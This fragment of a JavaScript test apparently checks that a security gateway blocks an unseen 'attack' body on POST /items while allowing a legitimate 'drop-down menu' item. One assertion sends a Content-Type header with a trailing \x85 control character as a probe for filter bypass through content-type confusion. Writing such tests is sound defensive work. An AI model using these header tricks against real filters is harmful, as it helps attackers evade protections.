    assert.equal((await rawPost(gw.url, '/items', 'application/vnd.api+json\x85', attack)).status, 400)
    assert.equal((await rawPost(gw.url, '/items', 'application/vnd.api+json', attack)).status, 403)
    assert.equal((await rawPost(gw.url, '/items', null, attack)).status, 403)
    const ok = await rawPost(gw.url, '/items', 'application/vnd.api+json', legit)
    assert.equal(ok.status, 200, ok.body)
    assert.deepEqual(JSON.parse(ok.body), { name: 'drop-down menu', price: 1 })
    assert.equal((await rawPost(gw.url, '/items', null, legit)).status, 200)
  } finally {
    await gw.close()
    await app.close()
  }
})
